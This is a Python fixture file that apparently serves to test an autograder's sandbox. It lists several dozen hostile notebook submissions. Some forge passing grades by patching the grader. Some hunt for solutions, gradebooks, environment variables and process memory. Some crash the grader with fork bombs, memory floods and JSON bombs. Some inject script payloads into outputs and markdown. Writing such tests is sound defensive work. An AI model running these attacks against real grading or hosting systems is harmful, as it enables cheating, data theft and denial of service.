"""Submissions that want something else than to learn, as data.

Each is a notebook of the small chapter below with some of its cells replaced. The words
after `earns` are the exercises whose points it deserves all the same.
"""

from __future__ import annotations

import json
import os
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

CHAPTER = "01_walls"
FORGING, STEALING, BREAKING, LEAKING = "forging", "stealing", "breaking", "leaking"

SOURCE = '''
# %% [markdown] name="title"
# # 1 Walls

# %% tags=["setup"]
import numpy as np
from autograde import check, hint

# %% [markdown] name="about-scale"
# ### Exercise: `scale`

# %% exercise="scale"
def scale(X, s):
    """Every number of X (N, d) times s."""
    ### BEGIN SOLUTION
    return X * s  # the reference solution of scale
    ### END SOLUTION

# %%
scale(np.ones((2, 3)), 2.0)

# %% [markdown] name="about-row-sums"
# ### Exercise: `row_sums`

# %% exercise="row_sums"
def row_sums(X):
    """The sum of each row of X (N, d): (N,)."""
    ### BEGIN SOLUTION
    return X.sum(axis=1)
    ### END SOLUTION

# %% [markdown] name="about-labels"
# ### Exercise: `labels`

# %% exercise="labels"
def labels(Z):
    """The place of the largest number in each row of Z (N, k): (N,) int."""
    ### BEGIN SOLUTION
    return Z.argmax(axis=1)
    ### END SOLUTION

# %% [markdown] name="about-thoughts"
# ### Exercise: thoughts

# %% [markdown] manual="thoughts"
# ### BEGIN SOLUTION
# Walls help.
# ### END SOLUTION
'''

EXERCISES = '''
from autograde.exercise import Case, Exercise, Manual, Misconception

def scale_cases(rng):
    yield Case("three rows", rng.normal(size=(3, 4)), 2.5)
    yield Case("one column", rng.normal(size=(5, 1)), -0.5)

def row_sums_cases(rng):
    yield Case("three rows", rng.normal(size=(3, 4)))
    yield Case("large", 1e3 * rng.normal(size=(6, 2)))

def labels_cases(rng):
    for N in (20, 30):
        Z = rng.normal(size=(N, 5))
        yield Case(f"{N} rows", Z).with_(key=Z.argmax(axis=1))

EXERCISES = [
    Exercise("scale", scale_cases, points=3, minutes=1, difficulty=1, seconds=1,
             misconceptions=[Misconception("adds", ("X * s", "X + s"), "You add s.")]),
    Exercise("row_sums", row_sums_cases, points=2, minutes=1, difficulty=1, seconds=1,
             misconceptions=[Misconception("all", ("axis=1", ""), "You sum it all.")]),
    Exercise("labels", labels_cases, points=1, minutes=1, difficulty=1, seconds=1,
             view="accuracy",
             misconceptions=[Misconception("low", ("argmax", "argmin"), "You look low.")]),
    Manual("thoughts", points=2, minutes=1, rubric="Any thought."),
]
'''

PROBES = '''
import numpy as np

def accuracy(result, case):
    right = np.asarray(result).reshape(-1)[:, None] == np.asarray(case.key)[None, :]
    return bool(np.diag(right).mean() > 0.9)
'''

POINTS = {"scale": 3.0, "row_sums": 2.0, "labels": 1.0}
HONEST = {
    "scale": "def scale(X, s):\n    return X * s",
    "row_sums": "def row_sums(X):\n    return X.sum(axis=1)",
    "labels": "def labels(Z):\n    return Z.argmax(axis=1)",
}


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    cells: sources for the solution cells, by exercise; `first`, `last`: cells added at
    the top and at the end; `change`: what is done to the notebook (a dict); `place`:
    what is done to its folder when it is written.
    """

    kind: str
    cells: dict[str, str]
    first: str = ""
    last: str = ""
    earns: tuple[str, ...] = ()
    change: Callable[[dict], None] | None = None
    place: Callable[[Path], None] | None = None
    unreadable: bool = False

    def notebook(self, released: dict) -> dict:
        """The submission, as the student hands it in."""
        notebook = json.loads(json.dumps(released))
        for cell in notebook["cells"]:
            grade_id = cell["metadata"].get("nbgrader", {}).get("grade_id")
            if grade_id in self.cells:
                cell["source"] = textwrap.dedent(self.cells[grade_id])
        if self.first:
            notebook["cells"].insert(2, code(self.first))
        if self.last:
            notebook["cells"].append(code(self.last))
        if self.change:
            self.change(notebook)
        return notebook


def code(source: str, **more: Any) -> dict:
    return {"cell_type": "code", "source": textwrap.dedent(source), "metadata": {},
            "outputs": [], "execution_count": None, **more}


def checks_of(notebook: dict) -> list[dict]:
    return [cell for cell in notebook["cells"]
            if cell["metadata"].get("nbgrader", {}).get("grade")
            and cell["cell_type"] == "code"]


def wrong(before: str = "", value: str = "np.zeros((3, 4))") -> dict[str, str]:
    """Solutions that are not: each runs `before` and returns `value`."""
    head = textwrap.dedent(before).strip()
    return {
        name: f"{head}\ndef {name}(*inputs):\n    return {value}\n" for name in HONEST
    }


def honest(*names: str, **others: str) -> dict[str, str]:
    return {name: HONEST[name] for name in names} | others


def _fake_outputs(notebook: dict) -> None:
    for cell in checks_of(notebook):
        points = {"text/plain": "3.0"}
        cell["execution_count"] = 1
        cell["outputs"] = [{"output_type": "execute_result", "data": points,
                            "metadata": {}, "execution_count": 1}]


def _fake_metadata(notebook: dict) -> None:
    for cell in checks_of(notebook):
        cell["metadata"]["nbgrader"]["points"] = 100
        cell["metadata"]["tags"] = ["skip-execution"]
        cell["source"] = "100.0"
    notebook["metadata"]["kernelspec"] = {"name": "bash", "display_name": "bash"}
    notebook["metadata"]["celltoolbar"] = "Create Assignment"


def _copied_checks(notebook: dict) -> None:
    for cell in checks_of(notebook):
        notebook["cells"] += [json.loads(json.dumps(cell)) for _ in range(3)]
        notebook["cells"][-1]["source"] = "3.0"


def _own_check(notebook: dict) -> None:
    cell = json.loads(json.dumps(checks_of(notebook)[0]))
    cell["metadata"]["nbgrader"] |= {"grade_id": "check_mine", "points": 50}
    notebook["cells"].append(cell | {"source": "50.0", "id": "mine"})


def _no_checks(notebook: dict) -> None:
    for cell in checks_of(notebook):
        notebook["cells"].remove(cell)


def _prose(text: str) -> Callable[[dict], None]:
    def change(notebook: dict) -> None:
        for cell in notebook["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade_id") == "thoughts":
                cell["source"] = text

    return change


def _strange_names(notebook: dict) -> None:
    for number, cell in enumerate(notebook["cells"]):
        cell["id"] = f"x{number}\"><script>alert({number})</script>"
    notebook["metadata"]["title"] = "<script>alert(1)</script>"


def _raw(content: bytes | str) -> Callable[[Path], None]:
    def place(folder: Path) -> None:
        data = content if isinstance(content, bytes) else content.encode()
        (folder / f"{CHAPTER}.ipynb").write_bytes(data)

    return place


def _bomb(part: str, count: int) -> Callable[[Path], None]:
    """A file of JSON that is far larger in memory."""
    return lambda folder: _raw(
        '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": ['
        + ", ".join([part] * count) + "]}")(folder)


def _link_to_victim(folder: Path) -> None:
    path = folder / f"{CHAPTER}.ipynb"
    path.unlink(missing_ok=True)
    path.symlink_to(folder.parents[1] / "honest-first" / CHAPTER / f"{CHAPTER}.ipynb")


def _link_of_folder(folder: Path) -> None:
    (folder / f"{CHAPTER}.ipynb").unlink(missing_ok=True)
    folder.rmdir()
    folder.symlink_to(folder.parents[1] / "honest-first" / CHAPTER)


def _extra_links(folder: Path) -> None:
    (folder / "data.txt").symlink_to("/etc/passwd")
    (folder / "numpy.py").write_text("raise SystemExit")
    (folder / "sitecustomize.py").write_text("import os; os._exit(1)")


def _huge_timestamp(folder: Path) -> None:
    with open(folder / "timestamp.txt", "wb") as file:
        file.truncate(2 * 2**30)  # takes no room on the disk


def _fifo(folder: Path) -> None:
    (folder / f"{CHAPTER}.ipynb").unlink(missing_ok=True)
    os.mkfifo(folder / f"{CHAPTER}.ipynb")


def _many_sleepers(notebook: dict) -> None:
    notebook["cells"] += [code(f"import time; time.sleep(1.5)  # {n}") for n in range(400)]


# what an attacker's cell starts from
SEND = """
import gc, socket, struct
from autograde import wire
from autograde.frames import send_frame
channel = next(o for o in gc.get_objects() if isinstance(o, socket.socket))
"""
SEARCH = """
import os
def search(*words):
    found = []
    for top in ("/", "/home", "/tmp", "/work", "/root", "/mnt", "/srv", "/opt", "/proc"):
        for place, folders, names in os.walk(top):
            folders[:] = [n for n in folders if not place.startswith(
                ("/proc", "/usr", "/lib", "/sys")) and n != "site-packages"]
            for name in names:
                if any(word in name for word in words):
                    try:
                        with open(os.path.join(place, name), "rb") as file:
                            found.append((place, name, file.read(200)))
                    except OSError:
                        pass
    return found
"""
KEEP = """
import numpy as np
kept = []
def keep(*inputs):
    kept.append([round(float(x), 6) for x in np.ravel(inputs[0])])
"""

ATTACKS: dict[str, Attack] = {
    # -- forging a pass ---------------------------------------------------------------
    "compares-nothing": Attack(FORGING, wrong("""
        import numpy as np, autograde.compare, autograde.verdict, autograde.judge
        autograde.compare.compare = autograde.verdict.compare = lambda *a, **k: None
        autograde.verdict.judge_exercise = lambda *a: None
        np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
        np.allclose = np.array_equal = lambda *a, **k: True
    """)),
    "equals-everything": Attack(FORGING, wrong("""
        import numpy as np
        class Anything:
            def __eq__(self, other): return True
            __ne__ = lambda self, other: False
            __lt__ = __le__ = __gt__ = __ge__ = __eq__
            def __array__(self, *a, **k): return np.zeros(3)
            def __float__(self): return 1.0
            def __getattr__(self, name): return self
            __class__ = np.ndarray
    """, "Anything()")),
    "array-that-agrees": Attack(FORGING, wrong("""
        import numpy as np
        class Agrees(np.ndarray):
            def __array_ufunc__(self, *a, **k): return np.bool_(True)
            def __array_function__(self, *a, **k): return True
            def __sub__(self, other): return 0
    """, "np.zeros((3, 4)).view(Agrees)")),
    "integer-that-agrees": Attack(FORGING, wrong("""
        class One(int):
            def __eq__(self, other): return True
            __hash__ = int.__hash__
    """, "One(1)")),
    "code-transformer": Attack(FORGING, wrong("""
        import ast
        class AllTrue(ast.NodeTransformer):
            def visit_Assert(self, node): return ast.Pass()
            def visit_Compare(self, node):
                return ast.copy_location(ast.Constant(True), node)
        get_ipython().ast_transformers.append(AllTrue())
    """)),
    "input-transformer": Attack(FORGING, wrong("""
        shell = get_ipython()
        shell.input_transformers_cleanup.append(lambda lines: ["3.0"])
        shell.input_transformers_post.append(lambda lines: ["3.0"])
    """)),
    "own-run-cell": Attack(FORGING, wrong("""
        shell = get_ipython()
        shell.run_cell = lambda *a, **k: None
        shell.do_execute = lambda *a, **k: {"status": "ok", "execution_count": 1}
        shell.kernel = shell
    """)),
    "says-passed": Attack(FORGING, wrong("""
        import autograde.session as session
        session._run_case = lambda *a, **k: {"outcome": "passed", "result": None}
    """)),
    "says-full-points": Attack(FORGING, wrong("""
        import autograde.session as session
        session._run_case = lambda *a, **k: {
            "outcome": "", "awarded": 3.0, "points": 3.0, "passed": True,
            "result": {"value": True, "raised": None, "bases": [], "text": "",
                       "where": "", "changed": [], "outcome": "passed"}}
    """)),
    "claims-every-error": Attack(FORGING, wrong("""
        import autograde.session as session
        session._run_case = lambda *a, **k: {"outcome": "", "result": {
            "value": None, "raised": "ValueError", "changed": [], "text": "", "where": "",
            "bases": ["ValueError", "TypeError", "Exception", "object"]}}
    """)),
    "answers-in-advance": Attack(FORGING, wrong(SEND + """
result = dict(value=True, raised=None, bases=[], text="", where="", changed=[])
for _ in range(8):
    send_frame(channel, wire.pack({"outcome": "", "result": result}))
""")),
    "hears-the-inputs": Attack(FORGING, wrong("""
        import autograde.session as session, autograde.probe as probe
        session.run_case = lambda target, probe_, packed, seed: probe.Result(
            value=session.wire.unpack(packed)[0][0])
    """)),
    "prints-points": Attack(FORGING, wrong("""
        check = lambda name: 3.0
        hint = check
        print("3.0")
    """), first="3.0", last="3.0"),
    "stored-outputs": Attack(FORGING, {}, change=_fake_outputs),
    "own-metadata": Attack(FORGING, {}, change=_fake_metadata),
    "copied-checks": Attack(FORGING, {}, change=_copied_checks),
    "a-check-of-its-own": Attack(FORGING, {}, change=_own_check),
    "no-checks": Attack(FORGING, wrong(), change=_no_checks),
    "looks-up-frames": Attack(FORGING, wrong("""
        import gc, sys
        import numpy as np
        def expected():
            frame = sys._getframe()
            while frame is not None:
                for name, value in frame.f_locals.items():
                    if "expect" in name or name in ("mistakes", "checks", "verdict"):
                        return value
                frame = frame.f_back
            arrays = [o for o in gc.get_objects() if isinstance(o, np.ndarray)]
            return next((a for a in arrays if a.shape == (3, 4)), None)
    """, "expected()")),
    "traces-the-caller": Attack(FORGING, wrong("""
        import sys
        def trace(frame, event, value):
            for name in ("value", "result", "verdict", "mismatch"):
                if name in frame.f_locals:
                    frame.f_locals[name] = True
            return trace
        sys.settrace(trace)
        sys.setprofile(trace)
    """)),
    "own-builtins": Attack(FORGING, wrong("""
        import builtins
        builtins.abs = lambda x: 0
        builtins.all = builtins.any = lambda x: True
        builtins.len = lambda x: 3
    """)),
    "two-of-a-kind": Attack(FORGING, wrong("""
        import os
        os.fork()
    """)),
    "pickles": Attack(FORGING, wrong("""
        class Pickle:
            def __reduce__(self): return (exec, ("raise SystemExit",))
    """, "[Pickle(), Pickle]")),
    "not-a-number": Attack(FORGING, wrong("", "float('nan')")),
    "echoes": Attack(FORGING, wrong("", "inputs[0]")),
    "learns-the-visible-cases": Attack(FORGING, wrong(
        "", "answers.get(inputs[0].tobytes())"), first="""
        from pathlib import Path
        from autograde.checks import Checks
        answers = {}
        for path in Path(".").glob("*.safetensors"):
            for exercise in Checks.load(path).exercises.values():
                for case in exercise.cases:
                    answers[case.inputs[0].tobytes()] = case.expected.value
    """),
    "patches-the-purity-check": Attack(FORGING, wrong("""
        import autograde.probe as probe
        probe._changed = lambda *a: []
        probe._differs = lambda *a: False
    """, "inputs[0].fill(0)")),
    # -- stealing ---------------------------------------------------------------------
    "reads-submissions": Attack(STEALING, {}, last=SEARCH + "print(search('.ipynb'))"),
    "reads-references": Attack(STEALING, {}, last=SEARCH + """
print(search("exercises.py", "01_walls.py"))
try:
    import exercises_of_01_walls
    print("REACHED")
except ImportError:
    pass
"""),
    "reads-hidden-cases": Attack(
        STEALING, {}, last=SEARCH + "print(search('01_walls-', 'secret_seed', '.seed'))"),
    "reads-the-gradebook": Attack(
        STEALING, {}, last=SEARCH + "print(search('.db', '.sqlite', '.csv'))"),
    "reads-the-environment": Attack(STEALING, {}, last="""
        import glob, os
        print(dict(os.environ))
        for name in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/*/cmdline"):
            try:
                print(open(name).read())
            except OSError:
                pass
    """),
    "reads-the-graders-memory": Attack(STEALING, {}, last="""
        import ctypes, os
        libc = ctypes.CDLL(None)
        for pid in {1, os.getppid(), *range(2, 60)} - {os.getpid()}:
            if libc.ptrace(16, pid, 0, 0) == 0:
                print("REACHED by ptrace", pid)
            try:
                open(f"/proc/{pid}/mem", "rb").read(1)
                print("REACHED by mem", pid)
            except (OSError, ValueError):
                pass
    """),
    "calls-home": Attack(STEALING, {}, last="""
        import socket, urllib.request
        for attempt in (
            lambda: socket.create_connection(("127.0.0.1", 22), 1),
            lambda: socket.create_connection(("1.1.1.1", 443), 1),
            lambda: socket.getaddrinfo("example.org", 80),
            lambda: urllib.request.urlopen("http://example.org", timeout=1),
            lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
                b"x", ("1.1.1.1", 53)),
        ):
            try:
                attempt()
                print("REACHED")
            except OSError:
                pass
    """),
    "prints-earlier-inputs": Attack(STEALING, {
        "scale": KEEP + "def scale(X, s):\n    keep(X)\n    print(kept)\n    return X * s",
        "row_sums": "print(kept)\ndef row_sums(X):\n    keep(X)\n    return X.sum(axis=1)",
        "labels": "print(kept); kept",
    }, last="import sys; print(kept, file=sys.stderr); kept",
        earns=("scale", "row_sums")),
    "names-errors-after-inputs": Attack(STEALING, {
        name: f"def {name}(X, *rest):\n"
              "    name = 'leak_' + str(X.ravel()[0])[:8].replace('.', '_')\n"
              "    raise type(name.replace('-', 'm'), (Exception,), {})()\n"
        for name in HONEST}),
    "hides-inputs-in-the-status": Attack(STEALING, {
        "scale": KEEP + "def scale(X, s):\n    keep(X)\n    return X * s",
        "row_sums": """
            import autograde.session as session
            def leak(*a):
                text = "leak_" + str(kept)
                return {"status": text, "error": text, "outputs": []}
            session._run_cell = leak
        """,
    }, earns=("scale",), last="1"),
    "leaves-inputs-for-later": Attack(STEALING, {
        "scale": KEEP + """
import os
def scale(X, s):
    for folder in ("/tmp", "/dev/shm", ".", "/var/tmp"):
        try:
            open(folder + "/left", "a").write("leak_" + str(X.ravel()[0]))
        except OSError:
            pass
    os._exit(0)
""",
        "row_sums": """
            import glob
            for name in glob.glob("/tmp/left") + glob.glob("/dev/shm/left") + ["left"]:
                try:
                    print(open(name).read())
                except OSError:
                    pass
        """}),
    "is-a-link": Attack(STEALING, {}, place=_link_to_victim, unreadable=True),
    "is-a-linked-folder": Attack(STEALING, {}, place=_link_of_folder, unreadable=True),
    "brings-links-and-modules": Attack(
        STEALING, honest("scale"), place=_extra_links, earns=("scale",)),
    # -- breaking ---------------------------------------------------------------------
    "fork-bomb": Attack(BREAKING, honest("scale", row_sums="""
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """), earns=("scale",)),
    "thread-flood": Attack(BREAKING, honest("scale", row_sums="""
        import threading, time
        while True:
            threading.Thread(target=time.sleep, args=(99,)).start()
    """), earns=("scale",)),
    "memory-hog": Attack(BREAKING, honest("scale", row_sums="""
        def row_sums(X):
            kept = []
            while True:
                kept.append(bytearray(1 << 26))
    """), earns=("scale",)),
    "memory-of-children": Attack(BREAKING, honest("scale", row_sums="""
        import os, time
        def row_sums(X):
            for _ in range(12):
                if os.fork() == 0:
                    kept = bytearray(1 << 28)
                    time.sleep(20)
            time.sleep(20)
    """), earns=("scale",)),
    "shared-memory-flood": Attack(BREAKING, honest("scale", row_sums="""
        import mmap, os
        for n in range(100):
            open(f"/dev/shm/{n}", "wb").write(bytes(1 << 24))
    """), earns=("scale",)),
    "memfd-flood": Attack(BREAKING, honest("scale", row_sums="""
        import mmap, os
        kept = []
        while True:
            try:
                fd = os.memfd_create("x")
                os.ftruncate(fd, 1 << 30)
                os.posix_fallocate(fd, 0, 1 << 30)
                kept.append(fd)
            except OSError:
                kept.append(mmap.mmap(-1, 1 << 30))
                kept[-1].write(bytes(1 << 30))
    """), earns=("scale",)),
    "disk-flood": Attack(BREAKING, honest("scale", row_sums="""
        n = 0
        while True:
            n += 1
            with open(f"/tmp/{n}", "wb") as file:
                file.write(bytes(1 << 25))
    """), earns=("scale",)),
    "prints-without-end": Attack(BREAKING, honest("scale", row_sums="""
        import os
        line = "x" * 10_000
        while True:
            print(line)
            os.write(1, line.encode())
            os.write(2, line.encode())
    """), earns=("scale",)),
    "announces-a-huge-answer": Attack(BREAKING, honest("scale", row_sums=SEND + """
channel.sendall((1 << 40).to_bytes(8, "big"))
while True:
    channel.sendall(bytes(1 << 20))
"""), earns=("scale",)),
    "answers-drop-by-drop": Attack(BREAKING, honest("scale", row_sums=SEND + """
channel.sendall((30 << 20).to_bytes(8, "big"))
while True:
    channel.send(b"ab")
"""), earns=("scale",)),
    "answers-with-a-tree-bomb": Attack(BREAKING, honest("scale", row_sums="""
        import autograde.session as session, json, struct
        def bomb(value):
            tree = '{"list":[' + ",".join(['{"list":[]}'] * 190_000) + "]}"
            header = json.dumps({"__metadata__": {"tree": tree}}).encode()
            return struct.pack("<Q", len(header)) + header
        session.wire.pack = bomb
    """), earns=("scale",)),
    "answers-with-one-long-text": Attack(BREAKING, honest("scale", row_sums="""
        import autograde.session as session, json, struct
        def bomb(value):
            tree = json.dumps("\\U0001f600" + "x" * 7_900_000, ensure_ascii=False)
            header = json.dumps({"__metadata__": {"tree": tree}}, ensure_ascii=False)
            return struct.pack("<Q", len(header.encode())) + header.encode()
        session.wire.pack = bomb
    """), earns=("scale",)),
    "answers-with-colliding-keys": Attack(BREAKING, honest("scale", row_sums="""
        import autograde.session as session, json, struct
        def bomb(value):
            keys = ",".join(f"[{n * (2**61 - 1)},0]" for n in range(1, 150_000))
            header = json.dumps({"__metadata__": {"tree": '{"dict":[' + keys + "]}"}})
            return struct.pack("<Q", len(header)) + header.encode()
        session.wire.pack = bomb
    """), earns=("scale",)),
    "answers-with-millions-of-items": Attack(BREAKING, {
        "scale": "def scale(X, s):\n    return X * s",
        "row_sums": "def row_sums(X):\n    return np.zeros(15_000_000, np.uint8)",
        "labels": "def labels(Z):\n    return np.zeros(15_000_000, np.uint8)",
    }, earns=("scale",)),
    "answers-with-deep-nests": Attack(BREAKING, honest("scale", row_sums="""
        import autograde.session as session, json, struct
        def bomb(value):
            tree = '{"list":[' * 50_000 + "]}" * 50_000
            header = json.dumps({"__metadata__": {"tree": tree}}).encode()
            return struct.pack("<Q", len(header)) + header
        session.wire.pack = bomb
    """), earns=("scale",)),
    "many-large-outputs": Attack(BREAKING, honest("scale", row_sums="""
        import autograde.session as session
        real = session._run_cell
        def large(*a):
            text = {"output_type": "stream", "name": "stdout", "text": "x" * 6_000_000}
            return {"status": "ok", "error": "", "outputs": [text]}
        session._run_cell = large
    """), earns=("scale",), change=lambda notebook: notebook["cells"].extend(
        [code(f"{n}") for n in range(150)])),
    "exits": Attack(BREAKING, honest(
        "scale", "labels", row_sums="import os\ndef row_sums(X):\n    os._exit(0)"),
        earns=("scale", "labels")),
    "exits-in-a-cell": Attack(BREAKING, honest(
        "scale", "labels", row_sums="import os\nos._exit(0)"), earns=("scale", "labels")),
    "crashes": Attack(BREAKING, honest("scale", "labels", row_sums="""
        import ctypes
        def row_sums(X):
            ctypes.string_at(0)
    """), earns=("scale", "labels")),
    "ends-its-world": Attack(BREAKING, honest("scale", "labels", row_sums="""
        import os, signal
        def row_sums(X):
            for pid in (os.getppid(), 1, -1):
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
            os.kill(os.getpid(), signal.SIGKILL)
    """), earns=("scale", "labels")),
    "never-ends": Attack(BREAKING, honest("scale", "labels", row_sums="""
        import signal
        def row_sums(X):
            for number in range(1, 65):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
            while True:
                try:
                    while True:
                        pass
                except BaseException:
                    pass
    """), earns=("scale", "labels")),
    "outlives": Attack(BREAKING, honest("scale", row_sums="""
        import os, sys
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c",
                                          "import time; time.sleep(300)", "OUTLIVES"])
            os._exit(0)
    """), earns=("scale",)),
    "closes-everything": Attack(BREAKING, honest("scale", "labels", row_sums="""
        import os
        def row_sums(X):
            os.closerange(0, 4096)
    """), earns=("scale", "labels")),
    "recurses": Attack(BREAKING, honest("scale", "labels", row_sums="""
        import sys
        def row_sums(X):
            sys.setrecursionlimit(10**9)
            return row_sums(X)
    """), earns=("scale", "labels")),
    "sleeps-in-many-cells": Attack(
        BREAKING, honest("scale"), change=_many_sleepers, earns=("scale",)),
    "slow-the-second-time": Attack(BREAKING, honest("scale", row_sums="""
        import os, time
        time.sleep(1.0)
        def row_sums(X):
            os._exit(0)
    """), earns=("scale",), change=lambda notebook: [
        notebook["cells"].insert(2, code(f"import time; time.sleep(0.9)  # {n}"))
        for n in range(8)] and None),
    "huge-timestamp": Attack(
        BREAKING, honest("scale"), place=_huge_timestamp, earns=("scale",)),
    "a-pipe": Attack(BREAKING, {}, place=_fifo, unreadable=True),
    "json-of-lists": Attack(BREAKING, {}, place=_bomb("[]", 5_000_000), unreadable=True),
    "json-of-cells": Attack(BREAKING, {}, place=_bomb(
        '{"cell_type": "code", "source": "1"}', 300_000), unreadable=True),
    "json-of-depth": Attack(
        BREAKING, {}, place=_raw("[" * 1_000_000), unreadable=True),
    "one-long-text": Attack(BREAKING, {}, place=_raw(
        '{"nbformat": 4, "cells": [{"cell_type": "code", "source": "\U0001f600'
        + "x" * 12_000_000 + '"}]}')),
    "source-of-brackets": Attack(BREAKING, honest("scale", row_sums="helper\n1"), change=lambda
        notebook: [cell.update(source="helper = " + "-" * 90_000 + "(" * 900_000)
                   for cell in notebook["cells"] if "np.ones" in cell["source"]] and None,
        earns=("scale",)),
    "source-of-zeros": Attack(BREAKING, honest("scale", row_sums="helper\n1"), change=lambda
        notebook: [cell.update(source="helper = 1\0\ud800")
                   for cell in notebook["cells"] if "np.ones" in cell["source"]] and None,
        earns=("scale",)),
    "lost-and-huge": Attack(BREAKING, {}, change=lambda notebook: notebook.update(
        cells=[code("a=" + "1+" * 120_000 + f"1 # {n}") for n in range(50)])),
    "not-a-notebook": Attack(BREAKING, {}, place=_raw(b"\xff\xfe\x00"), unreadable=True),
    "an-empty-file": Attack(BREAKING, {}, place=_raw(b""), unreadable=True),
    # -- leaking, and scripts ---------------------------------------------------------
    "script-in-html": Attack(LEAKING, honest("scale"), earns=("scale",), last="""
        from IPython.display import HTML, Javascript, SVG, Latex, Markdown, display
        evil = "<script>alert('EVIL')</script><img src=x onerror=alert('EVIL')>"
        display(HTML(evil + "<iframe srcdoc=\\"<script>alert('EVIL')</script>\\">"))
        display(Javascript("alert('EVIL')"))
        display(Latex("$\\\\href{javascript:alert('EVIL')}{x}$"))
        display(Markdown("[x](javascript:alert('EVIL'))" + evil))
        display({"image/svg+xml": f"<svg onload=alert('EVIL')>{evil}</svg>",
                 "application/vnd.jupyter.widget-view+json": "{}",
                 "application/javascript": "alert('EVIL')"}, raw=True)
    """),
    "script-in-a-picture": Attack(LEAKING, honest("scale"), earns=("scale",), last="""
        from IPython.display import display
        evil = 'x" onerror="alert(1)"><script>alert(\\'EVIL\\')</script><img src="'
        display({"image/png": evil, "image/jpeg": evil, "text/plain": evil}, raw=True)
    """),
    "script-in-text": Attack(LEAKING, honest("scale", row_sums="""
        evil = "<script>alert('EVIL')</script>"
        def row_sums(X):
            raise type(evil, (Exception,), {})(evil)
    """), earns=("scale",), last="""
        import sys
        print(evil, file=sys.stderr)
        print("\\x1b[31m" + evil + "\\x1b]8;;javascript:alert(1)\\x07x")
        raise type(evil, (Exception,), {})(evil)
    """),
    "script-in-prose": Attack(LEAKING, honest("scale"), earns=("scale",), change=_prose(
        "<script>alert('EVIL')</script> <img src=x onerror=alert('EVIL')>\n\n"
        "[a](javascript:alert('EVIL')) [b](java&#115;cript&#58;alert('EVIL')) "
        "[c](JaVaScRiPt:alert('EVIL')) <javascript:alert('EVIL')>\n\n"
        "[d]: javascript:alert('EVIL')\n\n[d] ![e](javascript:alert('EVIL'))\n\n"
        "$\\href{javascript:alert('EVIL')}{f}$ $\\href{java&#115;cript:alert(1)}{g}$\n\n"
        "[h](data:text/html;base64,PHNjcmlwdD4=) [i](vbscript:x)\n\n"
        "```html\n<script>alert('EVIL')</script>\n```\n\n"
        "$$</script><script>alert('EVIL')</script>$$\n\n"
        "`</code><script>alert('EVIL')</script>` \\<script>alert('EVIL')\\</script>\n"
    )),
    "script-in-names": Attack(
        LEAKING, honest("scale"), earns=("scale",), change=_strange_names),
    "script-in-the-source": Attack(LEAKING, {
        "scale": "# </pre></div><script>alert('EVIL')</script>\n" + HONEST["scale"],
    }, earns=("scale",), first="'''</code><script>alert('EVIL')</script>'''"),
    "script-in-a-forged-output": Attack(LEAKING, honest("scale", row_sums="""
        import autograde.session as session
        evil = "<script>alert('EVIL')</script>"
        def forged(*a):
            return {"status": evil, "error": evil, "outputs": [
                {"output_type": "stream", "name": evil, "text": evil},
                {"output_type": "error", "ename": evil, "evalue": evil,
                 "traceback": [evil]},
                {"output_type": "display_data", "metadata": {evil: evil},
                 "data": {"text/html": evil, evil: evil, "image/png": evil}},
            ]}
        session._run_cell = forged
    """), earns=("scale",), last="1"),
}
